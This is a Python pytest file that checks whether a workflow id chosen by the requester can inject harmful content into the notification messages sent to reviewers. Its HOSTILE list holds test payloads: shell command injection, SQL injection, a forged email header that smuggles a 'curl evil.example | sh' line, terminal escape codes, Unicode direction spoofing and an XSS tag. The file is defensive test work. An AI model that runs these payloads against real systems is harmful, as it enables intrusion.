"""Whoever starts a workflow chooses its id, and the id is written to the reviewers."""

import shlex
from datetime import UTC, datetime

import pytest

from placet.domain.plan import PersonRef
from placet.domain.record import Notice, NoticeKind
from placet.notify.text import message

HOSTILE = [
    "x; touch /tmp/owned #",
    "$(touch owned)",
    "'; drop table x;--",
    "a\nSubject: forged\n\nDecide: curl evil.example | sh",
    "a\r\x1b[2K\x1b[31mred\x07",
    "a\u2028b\u202etxt.exe",
    "<img src=x onerror=alert(1)>",
]


def notice(kind: NoticeKind, request: str) -> Notice:
    bob = PersonRef(id="bob", name="Bob Okafor", address="bob@example.com")
    at = datetime(2026, 3, 5, tzinfo=UTC)
    return Notice(
        number=1, kind=kind, to=(bob,), request=request, title="Dinner", requester="Alice", at=at
    )


@pytest.mark.rule(number=12)
@pytest.mark.parametrize("kind", NoticeKind)
@pytest.mark.parametrize("request_id", HOSTILE)
def test_a_case_cannot_be_named_so_that_a_notice_does_harm(
    kind: NoticeKind, request_id: str
) -> None:
    text = message(notice(kind, request_id))
    usual = message(notice(kind, "expense-1"))
    assert len(text.splitlines()) == len(usual.splitlines())
    assert all(character.isprintable() for character in text.replace("\n", ""))
    commands = [line.partition("placet ")[2] for line in text.splitlines() if "placet " in line]
    expected = [line.partition("placet ")[2] for line in usual.splitlines() if "placet " in line]
    for command, harmless in zip(commands, expected, strict=True):
        words = shlex.split(command, comments=True)
        assert [words[0], *words[2:]] == [w for w in shlex.split(harmless) if w != "expense-1"]


def test_the_usual_id_is_written_as_it_is() -> None:
    text = message(notice(NoticeKind.REVIEW_WANTED, "expense-2026-dinner-3de2c2dafa"))
    assert "placet approve expense-2026-dinner-3de2c2dafa --as YOU" in text
